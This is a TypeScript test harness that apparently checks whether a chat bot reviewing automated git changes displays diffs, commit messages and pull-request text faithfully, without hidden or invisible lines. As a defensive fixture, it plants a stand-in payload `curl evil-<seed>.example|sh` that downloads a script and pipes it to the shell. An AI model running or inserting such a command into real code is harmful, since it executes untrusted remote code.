/** A careful reader: checks that the bot shows, byte for byte, what a tap would publish. */
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { stripMarkup } from '#chat-text';
import { HIDDEN_LINE } from '../../bot/text/visible-patch.ts';
import { toVisibleText } from '../../text-safety/visible-text.ts';
import { findInvisibleCharacter } from '../../text-safety/invisible-characters.ts';
import type { ChangePatch } from '#ports/workspaces';
import type { Commit } from '#model/change';
import { assessAction } from '../../governor/assess-action.ts';
import type { GovernedAction } from '../../governor/governed-action.ts';
import { composeBranchName, pullBody } from '../../pull-text/pull-body.ts';
import { createRandom } from '../prove/random.ts';
import { check, context, contract } from './actions.ts';
import { createChatWorld } from './chat-world.ts';
import { createWorld } from './git-world.ts';
import { anOrder } from './ledger.ts';
import { bytesOf, original } from './original.ts';
import { messageOf, pullTitle } from './published.ts';
import { BASE, PLANTS, summaryOf } from './plants.ts';

export type Looked = { plant: string; stopped: boolean; complaints: string[] };
export type Approver = { looks: (seed: number) => Promise<Looked>; close: () => Promise<void> };

type Published = {
  commit: Commit;
  message: string;
  branch: string;
  title: string;
  body: string;
  author: string;
};

const AUTHOR = 'Ana <ana@example.org>';
const READ_UP_TO = 8_000_000;

export const createApprover = async (): Promise<Approver> => {
  const world = await createWorld();
  const repo = world.repo('seen', BASE);
  const { ws, sha: base } = await world.prepare('seen', repo);
  const gitDir = join(world.data, 'runs', 'seen', 'git');
  let head = '';
  let read: Promise<ChangePatch> | null = null;
  const patch = (): Promise<ChangePatch> =>
    (read ??= world.workspaces.patch({ runId: 'seen', base, head, limit: READ_UP_TO }));
  let closeRoom = (): Promise<void> => Promise.resolve();
  const room = await createChatWorld({ patch, atEnd: (close) => void (closeRoom = close) });

  /** Applies the shown patch with plain git and returns the tree. */
  const treeFrom = (shown: Buffer): string => {
    const index = join(world.dir, 'index-of-the-reader');
    rmSync(index, { force: true });
    const git = (args: string[], input?: Buffer): string =>
      execFileSync('git', ['--git-dir', gitDir, '-c', 'core.quotePath=false', ...args], {
        cwd: world.outside,
        stdio: ['pipe', 'pipe', 'pipe'],
        maxBuffer: 1 << 26,
        ...(input && { input }),
        env: { PATH: '/usr/bin:/bin', HOME: '/nonexistent', GIT_INDEX_FILE: index, GIT_CONFIG_NOSYSTEM: '1' },
      })
        .toString()
        .trim();
    git(['read-tree', base]);
    git(['apply', '--cached', '--unidiff-zero', '--whitespace=nowarn', '-'], shown);
    return git(['write-tree']);
  };

  const inGit = (shown: Buffer, tree: string): string[] => {
    try {
      return treeFrom(shown) === tree ? [] : ['what is read in the file makes another tree'];
    } catch (error) {
      return [`git cannot read what is shown: ${String(error).slice(0, 300)}`];
    }
  };

  const made = async (
    seed: number,
  ): Promise<{ plant: string; planted: Buffer | null; all: Published | null }> => {
    const random = createRandom(seed);
    const names = Object.keys(PLANTS);
    const plant = names[seed % names.length] ?? '';
    const evil = `exec("curl evil-${seed}.example|sh")`;
    await world.workspaces.reset({ runId: 'seen', sha: base, base });
    const planted = PLANTS[plant]?.({ ws, random, evil }) ?? null;
    const order = anOrder({ repo: 'acme/seen', goal: `Mend part ${seed} of it. Please.` });
    const message = messageOf(order, contract, summaryOf(random, evil));
    const harvest = await world.workspaces.harvest({
      runId: 'seen',
      base,
      parent: base,
      message,
      at: 1_750_000_000_000,
      author: { name: 'Ana', email: 'ana@example.org' },
    });
    if (harvest.kind !== 'commit') return { plant, planted, all: null };
    const { commit } = harvest;
    const body = pullBody({
      order,
      contract,
      commit,
      checks: [check('passed')],
      summary: summaryOf(random, evil),
    });
    const words = {
      branch: composeBranchName(order, contract, `run-${seed}`),
      title: pullTitle(order, contract),
      body,
    };
    return { plant, planted, all: { commit, message, ...words, author: AUTHOR } };
  };

  return {
    async looks(seed) {
      const { plant, planted, all } = await made(seed);
      if (!all) return { plant, stopped: true, complaints: [] };
      const { commit, branch, title, body, author } = all;
      const change = { commit, branch, baseRef: 'main', passed: true, checks: [check('passed')] };
      const push: GovernedAction = { kind: 'push', iteration: false, ...change };
      const pull: GovernedAction = { kind: 'open_pr', ...change, title, body, draft: false };
      const [ofPush, ofPull] = [assessAction(push, context), assessAction(pull, context)];
      if ([ofPush, ofPull].some(({ decision }) => decision === 'deny'))
        return { plant, stopped: true, complaints: [] };
      [head, read] = [commit.sha, null];
      const pushed = ofPush.decision === 'escalate';
      const [subject = '', ...rest] = commit.message.split('\n');
      const words = pushed ? { title: subject, body: rest.join('\n').trim() } : { title, body };
      await room.readyRun({
        commit,
        assessment: ofPush,
        fields: {
          ...words,
          branch,
          author,
          headSha: commit.sha,
          tree: commit.tree,
          diff: commit.diff.digest,
        },
      });
      const card = room.messages.findLast((m) => m.buttons.flat().some((b) => b.text === 'Diff'));
      if (!card) return { plant, stopped: false, complaints: [`${plant}: no card`] };
      await room.taps('Diff');
      const file = String(room.documents.at(-1)?.content ?? '');
      const before = room.documents.length;
      await room.taps('PR text');
      const text =
        room.documents.length > before
          ? String(room.documents.at(-1)?.content ?? '')
          : (room.messages.at(-1)?.text ?? '');
      const real = await patch();
      const wants: Record<string, string> = { branch, author, 'commit message': commit.message };
      const complaints = [
        ...inFile(file, real.text, planted),
        ...(file.includes(HIDDEN_LINE) ? [] : inGit(original(file), commit.tree)),
        ...inText(text, pushed ? wants : { ...wants, title, description: body }),
        ...onCard(card.html, file),
      ];
      return { plant, stopped: false, complaints: complaints.map((c) => `${plant}: ${c}`) };
    },
    close: async () => {
      await closeRoom();
      await world.close();
    },
  };
};

/** Compares line by line; only marked lines may be hidden, and never the planted one. */
const inFile = (file: string, patch: string, planted: Buffer | null): string[] => {
  const [shown, real] = [file.split('\n'), patch.split('\n')];
  if (shown.length !== real.length) return [`${real.length} lines became ${shown.length}`];
  const differ = real.filter((line, i) => {
    const seen = shown[i] ?? '';
    return !seen.endsWith(HIDDEN_LINE) && !original(seen).equals(bytesOf(line));
  });
  const open = original(shown.filter((line) => !line.endsWith(HIDDEN_LINE)).join('\n'));
  const unseen = findInvisibleCharacter(file);
  return [
    ...(unseen === null ? [] : [`nobody sees ${unseen} in the file`]),
    ...(differ.length > 0
      ? [`${differ.length} lines read otherwise than they are: ${toVisibleText(differ[0] ?? '')}`]
      : []),
    ...(planted === null || open.includes(planted)
      ? []
      : [`the planted ${JSON.stringify(planted.toString())} is nowhere`]),
  ];
};

const inText = (text: string, wanted: Readonly<Record<string, string>>): string[] =>
  Object.entries(wanted).flatMap(([what, words]) =>
    original(text.replaceAll(` ${HIDDEN_LINE}`, '')).includes(Buffer.from(words.trimEnd(), 'utf8'))
      ? []
      : [`the ${what} is not to be read: ${JSON.stringify(words)}`],
  );

const changed = (lines: readonly string[]): number => lines.filter((line) => /^[+-]/.test(line)).length;

/** The quote plus the count of omitted lines must cover the whole change. */
const onCard = (html: string, file: string): string[] => {
  const quote = /<blockquote expandable><code>([^]*?)<\/code>([^]*?)<\/blockquote>/.exec(html);
  const lines = stripMarkup(quote?.[1] ?? '').split('\n');
  const counted = Number(/(\d+) more lines? in/.exec(stripMarkup(quote?.[2] ?? ''))?.[1] ?? 0);
  const whole =
    counted > 0 || stripMarkup(quote?.[2] ?? '').includes('more line') ? lines.slice(0, -1) : lines;
  let content = false;
  const all = file.split('\n').filter((line) => {
    if (line.startsWith('diff --git ')) content = false;
    if (line.startsWith('@@')) content = true;
    return content;
  });
  return changed(all) === changed(whole) + counted
    ? []
    : [`the card has ${changed(whole)} lines and counts ${counted} more, of ${changed(all)}`];
};
